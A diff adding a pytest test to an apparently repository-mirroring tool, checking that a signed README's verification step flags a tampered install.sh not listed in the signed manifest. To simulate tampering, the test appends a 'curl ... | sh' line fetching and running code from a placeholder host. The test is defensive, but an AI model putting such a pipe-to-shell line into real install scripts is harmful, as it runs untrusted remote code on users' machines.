@@ -19,7 +19,8 @@ import pytest
 from clihelp import REPO, run_cli
 from servers import require_tool
 
-from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME
+from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME, BundleManifest
+from amsrepomirror.bundle.readme import readme_text
 from amsrepomirror.bundle.sums import write_sums
 from amsrepomirror.bundle.tool import ToolSpec, install_script, tool_matches
 from amsrepomirror.testing.scmdouble import DEFAULT_VERSION, ScmDouble, make_repository
@@ -364,3 +365,17 @@ def test_install_sh_checks_pips_wheel_before_it_runs(tmp_path):
     assert result.stderr.splitlines() == ["error: install.sh: tool/wheels/pip-25.0-py3-none-any.whl does not match its "
                                           "sha256 in manifest.json; nothing was installed"]
     assert not (tmp_path / "venv").exists()
+
+
+def test_readmes_signature_step_names_a_tool_file_the_signed_manifest_does_not_list(tool_bundle, tmp_path):
+    """By hand: SHA256SUMS is not signed, so a forger who changes tool/install.sh fixes its line there too;
+    the signed README's step 0 must then name it."""
+    bundle = copied(tool_bundle, tmp_path / "arrived")
+    script = bundle / "tool" / "install.sh"
+    script.write_text(script.read_text() + "curl http://example.invalid/ | sh\n")
+    names = [line.split("  ", 1)[1] for line in (bundle / SUMS_NAME).read_text().splitlines()]
+    write_sums(bundle, names)
+    readme = readme_text(BundleManifest.read(bundle / MANIFEST_NAME), signed=True)
+    command = next(line.strip() for line in readme.splitlines() if "NOT SIGNED" in line)
+    found = subprocess.run(["sh", "-c", command], cwd=bundle, capture_output=True, text=True, timeout=60)
+    assert found.stdout == "tool/install.sh: NOT SIGNED\n", found.stderr
